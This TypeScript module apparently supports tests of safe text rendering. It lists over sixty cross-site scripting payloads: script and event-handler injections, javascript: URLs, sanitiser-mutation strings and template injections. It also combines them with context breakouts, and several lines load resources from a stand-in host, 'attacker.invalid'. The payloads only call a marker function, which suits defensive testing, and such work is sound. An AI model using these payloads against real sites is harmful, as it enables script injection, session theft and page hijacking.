/** The attacker's host: it does not exist, and nothing may request it. */
export const attackerHost = "attacker.invalid";

/**
 * Texts that run `hit()`, request the attacker's host or leave an element with the attribute `hit` behind, if one of them is treated as anything but
 * text.
 */
const usual: readonly string[] = [
  "<script hit>hit()</script>",
  "<img hit src=x onerror=hit()>",
  "<svg hit onload=hit()>",
  '"><img hit src=x onerror=hit()>',
  "'><svg hit onload=hit()>",
  // Break out of their context in a page that a server writes: data in a script, a title, a comment, a style.
  "</script><script hit>hit()</script>",
  "<!--<script><script hit>hit()</script>",
  "--><script hit>hit()</script>",
  "</title><script hit>hit()</script>",
  "</textarea><img hit src=x onerror=hit()>",
  "</style><img hit src=x onerror=hit()>",
  "]]><script hit>hit()</script>",
  "';hit();//",
  '";hit();//',
  '\\";hit();//',
  "`-hit()-`",
  // Addresses that are scripts or pages.
  "javascript:hit()",
  "JaVaScRiPt:hit()",
  "java\tscript:hit()",
  "javascript&colon;hit()",
  "vbscript:hit()",
  "data:text/html,<script hit>hit()</script>",
  `//${attackerHost}/`,
  `<a hit href="javascript:hit()">press</a>`,
  // Elements that load, post, navigate or restyle.
  `<iframe hit src="javascript:parent.hit()"></iframe>`,
  `<iframe hit srcdoc="<script>parent.hit()</script>"></iframe>`,
  `<form hit action="javascript:hit()"><button autofocus>press</button></form>`,
  `<object hit data="javascript:hit()"></object>`,
  `<embed hit src=//${attackerHost}/x.swf>`,
  `<link hit rel=stylesheet href=//${attackerHost}/x.css>`,
  `<base hit href=//${attackerHost}/>`,
  `<meta hit http-equiv=refresh content="0;url=//${attackerHost}/">`,
  `<style hit>@import "//${attackerHost}/x.css";</style>`,
  `<img hit src=//${attackerHost}/pixel.gif>`,
  `<b hit style="background:url(//${attackerHost}/x.gif)">b</b>`,
  // Events that fire without a click.
  "<input hit autofocus onfocus=hit()>",
  "<details hit open ontoggle=hit()>x</details>",
  "<video hit><source onerror=hit()></video>",
  "<audio hit src=x onerror=hit()>",
  "<body hit onload=hit()>",
  "<marquee hit onstart=hit()>x</marquee>",
  "<svg hit><animate onbegin=hit() attributeName=x dur=1s>",
  "<svg hit><foreignObject><img src=x onerror=hit()></foreignObject></svg>",
  "<svg><script hit>hit&#40;&#41;</script></svg>",
  '<math hit><maction actiontype="statusline#" xlink:href="javascript:hit()">x</maction></math>',
  // Markup that a sanitiser or a second parser may reassemble.
  '<math><mtext><table><mglyph><style><!--</style><img hit title="--&gt;&lt;img src=x onerror=hit()&gt;">',
  '<noscript><p title="</noscript><img hit src=x onerror=hit()>"></noscript>',
  "<template hit><script>hit()</script></template>",
  "<scr<script>ipt hit>hit()</scr</script>ipt>",
  "<IMG/HIT/SRC=x/ONERROR=hit()>",
  "<img hit src=x\nonerror\n=\nhit()>",
  "&lt;img hit src=x onerror=hit()&gt;",
  "&#60;img hit src=x onerror=hit()&#62;",
  "%3Cscript hit%3Ehit()%3C/script%3E",
  "\\u003cscript hit\\u003ehit()\\u003c/script\\u003e",
  "\uFF1Cscript hit\uFF1Ehit()\uFF1C/script\uFF1E",
  "\u202E<script hit>hit()</script>",
  // Templates: of i18next, of frameworks with double braces, of Markdown.
  "{{constructor.constructor('hit()')()}}",
  "$t(hit) {{hit}} {{- hit}}",
  "${hit()}",
  "[press](javascript:hit())",
  "<b hit>b</b>",
];

/** Contexts that a payload may have to break out of first. */
const breakouts = ["", `">`, "'>", "</script>", "</title>", "</style>", "</textarea>", "--!>", "]]>", "</svg>"];

/** The usual ones, or each of them after each way out: more than five hundred. */
export const scriptPayloads = (all: boolean): readonly string[] =>
  all ? [...new Set(breakouts.flatMap((out) => usual.map((payload) => out + payload)))] : usual;
